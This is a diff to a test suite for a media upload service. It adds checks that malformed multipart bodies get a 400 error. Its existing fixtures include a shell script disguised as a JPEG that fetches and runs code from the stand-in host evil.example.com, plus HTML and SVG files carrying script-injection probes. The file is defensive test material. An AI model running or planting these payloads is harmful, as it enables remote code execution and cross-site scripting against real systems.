@@ -39,6 +39,17 @@ describe('uploads refused (media service, real MinIO and ffmpeg)', () => {
   });
 
   it.each([
+    ['without a boundary', 'multipart/form-data', 'x'],
+    ['cut off before its closing boundary', 'multipart/form-data; boundary=b0undary', '--b0undary\r\nContent-Disposition: form-data; name="file"; filename="a.png"\r\n\r\nabc'],
+    ['with nothing but garbage', 'multipart/form-data; boundary=b0undary', 'garbage'],
+  ])('answers 400, not 500, for a multipart body %s', async (_, type, body) => {
+    for (const call of ['single', 'image', 'multiple', 'video']) {
+      const answer = await fetch(`${app.base}/api/upload/${call}`, { method: 'POST', headers: { authorization: `Bearer ${await app.token()}`, 'content-type': type }, body });
+      expect([call, answer.status, ((await answer.json()) as { message: string }).message]).toEqual([call, 400, '上传失败: 上传内容不完整或格式不正确']);
+    }
+  });
+
+  it.each([
     ['a shell script renamed .jpg and declared image/jpeg', Buffer.from('#!/bin/sh\ncurl http://evil.example.com | sh\n'), 'image/jpeg'],
     ['an HTML page renamed .png', Buffer.from('<html><script>alert(1)</script></html>'), 'image/png'],
     ['an SVG (scripts can hide in it)', Buffer.from('<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>'), 'image/svg+xml'],
